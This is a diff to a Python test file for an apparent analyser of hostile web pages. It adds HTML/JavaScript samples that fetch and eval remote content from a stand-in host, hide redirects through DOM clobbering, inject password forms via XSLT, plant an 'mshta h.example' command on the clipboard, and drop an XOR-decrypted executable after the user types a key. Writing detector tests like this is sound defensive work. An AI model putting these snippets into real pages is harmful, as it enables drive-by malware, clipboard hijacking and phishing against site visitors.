@@ -66,7 +66,7 @@ def test_where_pages_go_unasked(source):
     ("<script>location='search-ms:query=x'</script>", ("calls", "load", "search-ms:query=x")),
 ])
 def test_other_ways_out(source, expected):
-    assert led(source) == {expected}
+    assert expected in led(source)
 
 
 @pytest.mark.parametrize("source", [
@@ -170,3 +170,51 @@ def test_objects_of_the_old_browser():
     assert led(made) == {("calls", "load", "WScript.Shell")}
     assert led("<script>x=window.ActiveXObject?new ActiveXObject('Shell.Application'):new XMLHttpRequest()</script>") == set()
     assert led("<script>try{x=new ActiveXObject('Msxml2.XMLHTTP')}catch(e){}</script>") == set()
+
+
+@pytest.mark.parametrize("source", [
+    f"<a id=c></a><a id=c name=u href='{TO}'></a><script>location=c.u+''</script>",
+    f"<form id=f><input name=k value='{B64}'></form><script>location=atob(f.k.value)</script>",
+    f"<a is=x-go href='{TO}'></a><script>customElements.define('x-go',class extends HTMLAnchorElement{{connectedCallback(){{this.click()}}}},{{extends:'a'}})</script>",
+])
+def test_elements_by_their_names(source):
+    assert {(kind, detail) for kind, _, detail in led(source)} == {("goes", TO)}
+
+
+@pytest.mark.parametrize("source", [
+    "<script>new WebSocket('wss://h.example/').onmessage=e=>(0,eval)(e.data)</script>",
+    "<script>new RTCPeerConnection({iceServers:[{urls:'turn:h.example'}]}).createDataChannel('x').onmessage=e=>document.write(e.data)</script>",
+    "<script>fetch('https://h.example/').then(r=>r.text()).then(t=>{location=t})</script>",
+    "<script>fetch('https://h.example/').then(r=>r.json()).then(j=>{document.body.innerHTML=j.page})</script>",
+    "<iframe src='https://h.example/' hidden></iframe><script>onmessage=e=>document.write(e.data)</script>",
+])
+def test_where_answers_of_the_web_end_up(source):
+    assert any(kind == "goes" and "the web" in detail for kind, _, detail in led(source))
+
+
+def test_answers_that_are_only_shown():
+    assert not on_stage("<b id=n></b><script>fetch('https://h.example/').then(r=>r.text()).then(t=>{n.textContent=t})</script>").of("goes")
+
+
+def test_style_sheets_that_write_forms():
+    sheet = "<xsl:stylesheet><xsl:template match='/'><form><input type='password'/></form></xsl:template></xsl:stylesheet>"
+    applied = f"x=new XSLTProcessor();x.importStylesheet(new DOMParser().parseFromString(`{sheet}`,'text/xml'));document.body.append(x.transformToFragment(document,document))"
+    assert on_stage(f"<script>{applied}</script>").asks
+
+
+@pytest.mark.parametrize("source", [
+    "<script>document.oncopy=e=>{e.clipboardData.setData('text/plain','mshta h.example');e.preventDefault()};document.execCommand('copy')</script>",
+    "<p draggable=true id=d>x</p><script>d.ondragstart=e=>e.dataTransfer.setData('text/plain','mshta h.example')</script>"])
+def test_what_is_put_on_the_clipboard(source):
+    assert "mshta h.example" in {act.detail for act in on_stage(source).of("copies")}
+
+
+@pytest.mark.parametrize(("field", "use"), [
+    ("<input id=w><button id=o>Open</button>", "o.onclick=()=>open_(w.value)"), ("", "setTimeout(()=>open_(prompt('Code')),50)")])
+def test_words_of_the_mail_are_typed(field, use):
+    cipher = [byte ^ ord("4821"[n % 4]) for n, byte in enumerate(PROGRAM)]
+    page = f"{field}<script>function open_(k){{var d={cipher}.map((c,i)=>c^k.charCodeAt(i%k.length));if(d[0]===77)" \
+           f"navigator.msSaveBlob(new Blob([new Uint8Array(d)]),'a.exe')}};{use}</script>"
+    made = play(page, Stage(1.0, cpu), ("4821", "other"))
+    assert made is not None and PROGRAM in {act.octets for act in made.of("file")}
+    assert not on_stage(page).of("file")
